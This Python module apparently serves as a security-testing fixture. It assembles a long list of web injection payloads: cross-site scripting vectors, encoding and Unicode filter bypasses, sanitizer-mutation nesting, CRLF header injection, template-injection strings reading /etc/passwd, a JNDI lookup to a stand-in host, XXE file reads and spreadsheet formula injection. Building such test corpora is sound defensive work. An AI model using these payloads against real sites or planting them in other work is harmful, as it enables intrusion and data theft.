"""What would somebody write who wants a page to run their code? Ways out of where a text stands, times what stands behind them.

`PAYLOADS` are the texts, all different. Whatever could run does one and the same thing, `DO`: it sets `pwned` and opens a dialog, both of which a
browser shows. Texts that only change a page or lead away from it name the host `ELSEWHERE`, which exists nowhere.
"""

from __future__ import annotations

import base64
from itertools import product

DO = "alert(top.pwned=1)"
ELSEWHERE = "//evil.invalid/"

RUNNERS = (
    f"<script>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f"<svg onload={DO}>",
    f"<iframe src=javascript:{DO}></iframe>",
    f"<iframe srcdoc='<script>{DO}</script>'></iframe>",
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}></video>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s></svg>",
    f"<body onpageshow={DO}>",
)
"""Markup that runs by itself, in today's browsers; the first of them stand behind every way out."""

WAYS_OUT = {
    "": "<p>{}</p>",
    '">': '<input value="{}">',
    "'>": "<input value='{}'>",
    "x>": "<input value={}>",
    "-->": "<p><!-- {} --></p>",
    "--!>": "<p><!-- {} --></p>",
    "</title>": "<title>{}</title>",
    "</title></svg>": "<svg><a><title>{}</title></a></svg>",
    "</textarea>": "<textarea>{}</textarea>",
    "</style>": "<style>p::before {{ content: '{}' }}</style>",
    '"}</script>': '<script type="application/json">{{"q": "{}"}}</script>',
    "</template>": "<template><p>{}</p></template>",
    "</mark></bdi></noscript></option></select>": "<select><option>{}</option></select>",
    "]]></text></svg>": "<svg><text><![CDATA[{}]]></text></svg>",
}
"""What ends the place where a text stands, by a page in which it stands there; "" where nothing has to be ended."""

ATTRIBUTES = (f"autofocus onfocus={DO}", f"onpointerenter={DO}", f"style=animation:x onanimationstart={DO}", f"href=javascript:{DO}")
QUOTES = ('"', "'", "", "`")

STRINGS = (
    f'";{DO};//',
    f"';{DO};//",
    f"`;{DO};//",
    f'"-{DO}-"',
    f"'-{DO}-'",
    f"\\';{DO};//",
    f'\\";{DO};//',
    f"\\u0022;{DO};//",
    f'"}}]}});{DO};//',
    f"*/{DO}/*",
    f"\u2028{DO}\u2029",
    f"</script><script>{DO}//",
    f"<!--<script>{DO}//",
)
"""Out of a string or a comment of a script."""

SCHEMES = (
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f"java\nscript:{DO}",
    f"java\rscript:{DO}",
    f"\x01javascript:{DO}",
    f"  javascript:{DO}",
    f"javascript\t:{DO}",
    f"javascript://x/%0a{DO}",
    f"javascript:/*--></title>{DO}//*/",
    f"https:javascript:{DO}",
    f"view-source:javascript:{DO}",
    f"vbscript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{DO}</script>".encode()).decode(),
    f"blob:javascript:{DO}",
    f'https://evil.invalid/" onclick={DO} x="',
    f"https://evil.invalid/'><img src=x onerror={DO}>",
    f"http:{ELSEWHERE}",
    ELSEWHERE,
    "/\\evil.invalid/",
    "\\\\evil.invalid\\",
    "/\t/evil.invalid/",
)
"""Where a link could lead."""

ENTITIES = (
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{DO}&#x3c;/script&#x3e;",
    f"&#0000060script&#0000062{DO}",
    f"&ltscript&gt{DO}",
    f"&LT;script&GT;{DO}",
    f"&amp;lt;script&amp;gt;{DO}",
    f"&quot;&gt;&lt;img src=x onerror={DO}&gt;",
    f"&#34; onfocus={DO} autofocus x=&#34;",
    f"&#106;avascript&colon;{DO}",
    f"java&Tab;script&colon;{DO}",
    f"java&NewLine;script&#x3A;{DO}",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"%253Cscript%253E{DO}",
    f"%u003cscript%u003e{DO}",
    f"\\x3cscript\\x3e{DO}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"\\74script\\76{DO}",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
)
"""Brackets and quotes written in another way, each of which some reader undoes."""

SPELLINGS = (
    f"<ScRiPt>{DO}</sCrIpT>",
    f"<SCRIPT SRC={ELSEWHERE}X.JS></SCRIPT>",
    f"<IMG SRC=X ONERROR={DO}>",
    f"<svg/onload={DO}>",
    f"<img/src/onerror={DO}>",
    f"<script\n>{DO}</script\t>",
    f"<script\x0c>{DO}</script\x0c>",
    f"<script/x>{DO}</script/x>",
    f"<img src=x onerror\n=\n{DO}>",
    f"<img src=x onerror\x0b={DO}>",
    f"<img src=`x` onerror={DO} x=`>",
    f"<img src=x onerror={DO}",
    f"<svg onload={DO}//",
    f"< script>{DO}</ script>",
    f"<x/><script>{DO}",
)
"""Mixed case, other spaces, ends left out."""

CONTROLS = (
    f"\0<script>{DO}</script>",
    f"<\0script>{DO}</script>",
    f"<scr\0ipt>{DO}</scr\0ipt>",
    f"<img src=x onerror\0={DO}>",
    f"java\0script:{DO}",
    f"\x08\x08\x08<script>{DO}</script>",
    f"\x1b]0;pwned\x07\x1b[2J<script>{DO}</script>",
    f"\x7f\x9b31m<img src=x onerror={DO}>",
    f"\x85<svg onload={DO}>",
    "x\r\nSet-Cookie: pwned=1",
    f"x\r\nContent-Type: text/html\r\n\r\n<script>{DO}</script>",
    f'x"\r\n\r\n<script>{DO}</script>',
    f"\ufeff<script>{DO}</script>",
    f"\ufffe\uffff<svg onload={DO}>",
)
"""Characters that some reader drops, obeys or takes for the end."""

UNICODE = (
    f"＜script＞{DO}＜/script＞",
    f"﹤script﹥{DO}﹤/script﹥",
    f"‹script›{DO}‹/script›",
    f"＂＞<img src=x onerror={DO}>",
    f"ʺ autofocus onfocus={DO} x=ʺ",
    f"<ſcript>{DO}</ſcript>",
    f"<\u212ascript>{DO}</\u212ascript>",
    f"<ımg src=x onerror={DO}>",
    f"\xc0\xbcscript\xc0\xbe{DO}\xc0\xbc/script\xc0\xbe",
    f"¼script¾{DO}¼/script¾",
    f"\u202e<script>{DO}</script>",
    f"\u2066\u202d'>\u2069<svg onload={DO}>",
    f"<\u200bscript>{DO}</script>",
    f"<\u0338script>\u0338{DO}",
    f"\U000e003cscript\U000e003e{DO}",
    f"<𝓈𝒸𝓇𝒾𝓅𝓉>{DO}</𝓈𝒸𝓇𝒾𝓅𝓉>",
    "Z" + "\u0335\u0489\u036f" * 60 + f"<svg onload={DO}>",
)
"""Characters that fold into brackets, quotes and letters, turn the direction, or pile up."""

NESTED = (
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<<script>{DO}//<</script>",
    f"<img src='><img src=x onerror={DO}>",
    "<" * 300 + f"script>{DO}</script>",
    "<b>" * 90 + f"<img src=x onerror={DO}>",
    "</div></main></body></html>" * 9 + f"<script>{DO}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={DO}>">',
    f'<p id="</p><img src=x onerror={DO}>">',
    f"<svg><style><img src=x onerror={DO}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={DO}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={DO}>",
    f"<svg></p><style><a id='</style><img src=x onerror={DO}>'>",
    f"<listing>&lt;img src=x onerror={DO}&gt;</listing>",
    f"<select><template><img src=x onerror={DO}></template></select>",
    f"<template shadowrootmode=open><img src=x onerror={DO}></template>",
    f"<svg><foreignObject><body onload={DO}></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:{DO}'/></svg>#x\"></svg>",
)
"""What becomes code when something is taken out of it once, or is read and written again."""

TEMPLATES = (
    "{{7*7}}",
    f"{{{{{DO}}}}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{{ config }}{{ request.environ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    f"{{{{'a'|safe}}}}<script>{DO}</script>",
    f"{{# <script>{DO}</script> #}}",
    f"${{{DO}}}",
    f"#{{{DO}}}",
    f"*{{{DO}}}",
    f"<%= {DO} %>",
    f"<?= {DO} ?>",
    f"[[{DO}]]",
    f"@({DO})",
    "%(label)s %s %n %x",
    "{0} {label} {count:,} {0.__class__}",
    "${jndi:ldap:" + ELSEWHERE + "}",
    f"$({DO}) `{DO}`",
)
"""What a template engine, a formatted string or a shell would carry out."""

MARKUP = (
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{DO}>",
    f"<link rel=stylesheet href={ELSEWHERE}x.css>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<script src={ELSEWHERE}x.js></script>",
    f"<script type=module>import '{ELSEWHERE}x.js'</script>",
    f"<img src={ELSEWHERE}x.png>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src=javascript:{DO}>",
    f"<form action={ELSEWHERE}><input name=q><button>Search</button></form>",
    f"<a href={ELSEWHERE} ping={ELSEWHERE}>click</a>",
    f"<a href=javascript:{DO}>click</a>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<style>@import url({ELSEWHERE}x.css);*{{display:none}}</style>",
    f"<div style=background:url({ELSEWHERE})>x</div>",
    "<plaintext>",
    "<!--",
    "<h1>x</h1>",
    "<dialog open>x</dialog>",
)
"""Markup that runs at a click or in other browsers, leads elsewhere, or hides what follows."""

CLOBBERING = (
    "<form id=q><input name=value></form>",
    "<img name=head><img id=keys><a id=results>",
    '<a id=status data-key="x" class="value dot line" data-person=x data-one=x>x</a>',
    '"],*,[data-key="',
    "\\'] a, a[href='",
    "__proto__",
    "constructor",
)
"""What a page's own scripts could take for their own."""

XML = (
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{DO}</script><![CDATA[",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"<?xml-stylesheet href='javascript:{DO}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{ELSEWHERE}'/>",
    f"</title></entry></feed><script>{DO}</script>",
    f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{DO}</h:script>",
)

FORMULAS = ("=1+1|' /C calc'!A1", f'=HYPERLINK("{ELSEWHERE}")', "@SUM(1+1)*cmd|' /C calc'!A0", f'",="<script>{DO}</script>')
"""What a spreadsheet would carry out."""

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *RUNNERS,
            *("".join(parts) for parts in product(WAYS_OUT, RUNNERS[:4])),
            *(f"{quote} {attribute} x={quote}" for quote, attribute in product(QUOTES, ATTRIBUTES)),
            *STRINGS, *SCHEMES, *ENTITIES, *SPELLINGS, *CONTROLS, *UNICODE, *NESTED, *TEMPLATES, *MARKUP, *CLOBBERING, *XML, *FORMULAS,
        ]
    )
)  # fmt: skip
